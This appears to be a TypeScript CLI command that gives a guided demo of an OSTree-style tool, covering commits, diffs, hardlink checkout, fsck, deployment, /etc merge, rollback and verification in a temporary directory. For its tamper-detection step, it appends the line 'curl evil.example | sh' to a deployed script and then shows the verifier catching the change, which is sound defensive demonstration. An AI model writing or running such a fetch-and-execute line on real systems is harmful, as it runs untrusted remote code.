import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { Command } from 'commander';
import { formatBytes, out } from '../output.js';

/** A small OS tree to play with: config, a binary-ish file, a setuid helper, symlinks. */
function writeSampleTree(root: string, version: string): void {
  const w = (p: string, content: string, mode = 0o644) => {
    fs.mkdirSync(path.dirname(path.join(root, p)), { recursive: true });
    fs.writeFileSync(path.join(root, p), content, { mode });
    fs.chmodSync(path.join(root, p), mode);
  };
  w('usr/lib/os-release', `NAME="Strata Demo OS"\nVERSION_ID=${version}\n`);
  w('usr/bin/hello', `#!/bin/sh\necho "hello from version ${version}"\n`, 0o755);
  w('usr/bin/passwd-helper', '#!/bin/sh\necho helper\n', 0o4755);
  w('usr/etc/motd', 'Welcome to Strata Demo OS\n');
  w('usr/etc/hostname', 'demo\n');
  w('usr/lib/modules/6.1.0-demo/vmlinuz', 'a kernel image\n');
  w('usr/lib/modules/6.1.0-demo/initramfs.img', 'an initramfs\n');
  w('usr/share/doc/demo/README', 'x'.repeat(20000));
  fs.symlinkSync('usr/bin', path.join(root, 'bin'));
  fs.symlinkSync('../lib/os-release', path.join(root, 'usr/etc/os-release'));
  fs.mkdirSync(path.join(root, 'var/empty'), { recursive: true });
}

export function register(program: Command): void {
  program
    .command('tour')
    .description('a short guided run on a temporary directory: a repository (commit, log, diff, checkout, fsck) and a device (deploy, /etc merge, status, rollback, verify)')
    .option('--keep', 'keep the temporary directory')
    .action(async (o: { keep?: boolean }) => {
      const { Repo } = await import('../../repo/repo.js');
      const { commit } = await import('../../repo/commit.js');
      const { log } = await import('../../repo/history.js');
      const { diff } = await import('../../repo/diff.js');
      const { checkout } = await import('../../repo/checkout.js');
      const { fsck } = await import('../../repo/fsck.js');
      const work = fs.mkdtempSync(path.join(os.tmpdir(), 'strata-tour-'));
      const repoPath = path.join(work, 'repo');
      const step = (n: number, text: string) => out(`\n== ${n}. ${text}`);
      try {
        step(1, 'Create a bare-user repository (the kind a device keeps, checked out by hardlinks)');
        Repo.init(repoPath, 'bare-user');
        out(`   strata init --repo ${repoPath} --mode bare-user`);

        step(2, 'Build an OS tree (version 1.0) and commit it');
        const tree = path.join(work, 'tree');
        writeSampleTree(tree, '1.0');
        const c1 = await commit({ repo: repoPath, branch: 'demo/x86_64/stable', source: tree, subject: 'Demo OS 1.0', metadata: [['version', '1.0']] });
        out(`   commit ${c1.commit}`);
        out(`   ${c1.stats.files} files, ${c1.stats.symlinks} symlinks, ${c1.stats.dirs} directories; ${c1.stats.objectsWritten} objects written`);

        step(3, 'Change the tree: a new version, an edited file, a new file, one removed, a mode change');
        fs.writeFileSync(path.join(tree, 'usr/lib/os-release'), 'NAME="Strata Demo OS"\nVERSION_ID=1.1\n');
        fs.writeFileSync(path.join(tree, 'usr/bin/hello'), '#!/bin/sh\necho "hello from version 1.1"\n');
        fs.writeFileSync(path.join(tree, 'usr/bin/status'), '#!/bin/sh\necho ok\n', { mode: 0o755 });
        fs.rmSync(path.join(tree, 'usr/share/doc/demo/README'));
        fs.chmodSync(path.join(tree, 'usr/bin/passwd-helper'), 0o755);
        const c2 = await commit({ repo: repoPath, branch: 'demo/x86_64/stable', source: tree, subject: 'Demo OS 1.1', metadata: [['version', '1.1']] });
        out(`   commit ${c2.commit}  (parent ${c2.parent?.slice(0, 12)})`);
        out(`   only ${c2.stats.objectsWritten} new objects: everything unchanged is shared with 1.0`);

        step(4, 'History of the branch (strata log)');
        for (const c of log({ repo: repoPath, rev: 'demo/x86_64/stable' })) out(`   ${c.checksum.slice(0, 12)}  ${c.date}  v${c.version}  ${c.subject}`);

        step(5, 'What changed from 1.0 to 1.1 (strata diff)');
        const d = diff({ repo: repoPath, from: 'demo/x86_64/stable^', to: 'demo/x86_64/stable' });
        const letter = { added: 'A', removed: 'D', modified: 'M', metadata: 'P' } as const;
        for (const e of d.entries) out(`   ${letter[e.change]}  ${e.path}`);

        step(6, 'Check out 1.1 by hardlinks, as a deployment would be');
        const dest = path.join(work, 'deploy');
        const co = await checkout({ repo: repoPath, rev: 'demo/x86_64/stable', dest });
        out(`   ${co.files} files: ${co.hardlinked} hardlinked to the repository, ${co.copied} copied (setuid or xattrs need their own inode)`);
        out(`   ${dest}/usr/lib/os-release says: ${fs.readFileSync(path.join(dest, 'usr/lib/os-release'), 'utf8').split('\n')[1]}`);

        step(7, 'Verify every object (strata fsck), then damage one and verify again');
        const ok = await fsck({ repo: repoPath });
        out(`   ${ok.commits} commits, ${ok.objects} objects, ${formatBytes(ok.contentBytes)}: ${ok.problems.length === 0 ? 'no problems' : ok.problems.length + ' problems'}`);
        const victim = path.join(dest, 'usr/bin/hello');
        fs.appendFileSync(victim, '# tampered\n'); // a hardlink: this writes into the repository's object
        const bad = await fsck({ repo: repoPath });
        for (const p of bad.problems) out(`   ${p.status}: ${p.message.slice(0, 100)}\n     used at ${p.usedAt[0]}`);
        out(bad.problems.length ? '   fsck caught the change: deployments by hardlink share inodes with the repository' : '   (fsck saw nothing?)');

        await deviceTour(work, step);
        out(`\nDone. ${o.keep ? `Everything is in ${work}` : 'Run with --keep to look around afterwards.'}`);
      } finally {
        if (!o.keep) fs.rmSync(work, { recursive: true, force: true });
      }
    });
}

/** The device half: a sysroot, two deployments, the /etc merge, rollback and tamper detection. */
async function deviceTour(work: string, step: (n: number, text: string) => void): Promise<void> {
  const { initFs, osInit } = await import('../../sysroot/init.js');
  const { commit } = await import('../../repo/commit.js');
  const { deploy } = await import('../../sysroot/deploy.js');
  const { status } = await import('../../sysroot/status.js');
  const { rollback } = await import('../../sysroot/manage.js');
  const { verifyDeployment } = await import('../../sysroot/verify.js');
  const sysroot = path.join(work, 'sysroot');
  const repo = path.join(sysroot, 'ostree/repo');
  const tree = path.join(work, 'device-tree');
  const ref = 'demo/x86_64/stable';
  const showStatus = (booted: string) => {
    for (const d of status({ sysroot, booted }).deployments) {
      const marks = [d.booted && 'booted', d.pending && 'pending', d.default && !d.pending && 'default', d.rollback && 'rollback'].filter(Boolean).join(', ');
      out(`   ${d.index}  ${d.checksum.slice(0, 12)}.${d.serial}  v${d.version}  (${marks})`);
    }
  };

  step(8, 'A device: an empty sysroot in OSTree\'s layout, and version 1.0 deployed');
  initFs({ dir: sysroot });
  osInit({ sysroot, stateroot: 'demo' });
  out(`   strata admin init-fs ${sysroot}; strata admin os-init demo --sysroot ${sysroot}`);
  writeSampleTree(tree, '1.0');
  await commit({ repo, branch: ref, source: tree, subject: 'Demo OS 1.0', metadata: [['version', '1.0']] });
  const first = await deploy({ sysroot, rev: ref, kargs: { set: ['console=ttyS0'] } });
  const booted = path.join(sysroot, 'ostree/deploy/demo/deploy', `${first.deployment.checksum}.${first.deployment.serial}`);
  out(`   strata admin deploy ${ref}: ${booted}`);
  out('   boot entry:');
  const entries = path.join(sysroot, 'boot/loader/entries');
  for (const line of fs.readFileSync(path.join(entries, fs.readdirSync(entries)[0]), 'utf8').trim().split('\n')) out(`     ${line}`);

  step(9, 'The admin edits /etc on the running 1.0; version 1.1 is deployed next to it');
  fs.writeFileSync(path.join(booted, 'etc/motd'), 'Managed by the ops team\n');
  fs.writeFileSync(path.join(tree, 'usr/lib/os-release'), 'NAME="Strata Demo OS"\nVERSION_ID=1.1\n');
  fs.writeFileSync(path.join(tree, 'usr/etc/hostname'), 'demo-1-1\n');
  await commit({ repo, branch: ref, source: tree, subject: 'Demo OS 1.1', metadata: [['version', '1.1']] });
  const second = await deploy({ sysroot, rev: ref, booted });
  const next = path.join(sysroot, 'ostree/deploy/demo/deploy', `${second.deployment.checksum}.${second.deployment.serial}`);
  out(`   /etc/motd in 1.1 (kept, the admin changed it):      ${fs.readFileSync(path.join(next, 'etc/motd'), 'utf8').trim()}`);
  out(`   /etc/hostname in 1.1 (untouched, follows the image): ${fs.readFileSync(path.join(next, 'etc/hostname'), 'utf8').trim()}`);
  showStatus(booted);

  step(10, 'Changed our mind before rebooting: roll back (one atomic switch of the boot configuration)');
  rollback({ sysroot, booted });
  showStatus(booted);

  step(11, 'Tamper detection: something rewrites /usr/bin/hello in the running deployment');
  fs.appendFileSync(path.join(booted, 'usr/bin/hello'), 'curl evil.example | sh\n');
  const v = await verifyDeployment({ sysroot, booted });
  for (const d of v.differences) out(`   ${d.kind}: ${d.path} (${d.what?.join(', ') ?? ''})`);
  out(`   strata admin verify exits 1 on this; ${v.checked} entries checked`);
}
